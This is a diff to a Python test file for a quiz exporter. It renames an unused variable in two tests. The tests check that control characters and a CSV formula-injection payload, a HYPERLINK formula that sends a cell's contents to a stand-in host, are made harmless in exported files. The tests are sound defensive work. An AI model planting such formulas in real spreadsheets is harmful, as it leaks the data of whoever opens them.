@@ -100,7 +100,7 @@ def test_every_quiz_format_writes_no_control_character(text: str) -> None:
 @settings(max_examples=5, deadline=None, suppress_health_check=[HealthCheck.too_slow])
 @given(st.sampled_from(ESCAPES))
 def test_the_canvas_package_holds_no_control_character(text: str) -> None:
-    (name, data), = quiz_files(_hostile_quiz(text), ["qti"]).items()
+    (_name, data), = quiz_files(_hostile_quiz(text), ["qti"]).items()
     with zipfile.ZipFile(io.BytesIO(data)) as package:
         for member in package.namelist():
             content = package.read(member).decode("utf-8", "replace")
@@ -113,7 +113,7 @@ def test_a_formula_in_a_question_is_not_live_in_the_csv() -> None:
     link = '=HYPERLINK("http://x.example/?"&A1,"click")'
     spoiled = dataclasses.replace(choice, prompt=link, options=(link, *choice.options[1:]))
     quiz = dataclasses.replace(quiz, versions=(QuizVersion("A", (spoiled, *rest)),))
-    (name, data), = quiz_files(quiz, ["csv"]).items()
+    (_name, data), = quiz_files(quiz, ["csv"]).items()
     rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
     assert rows[0]["prompt"] == "'" + link
 
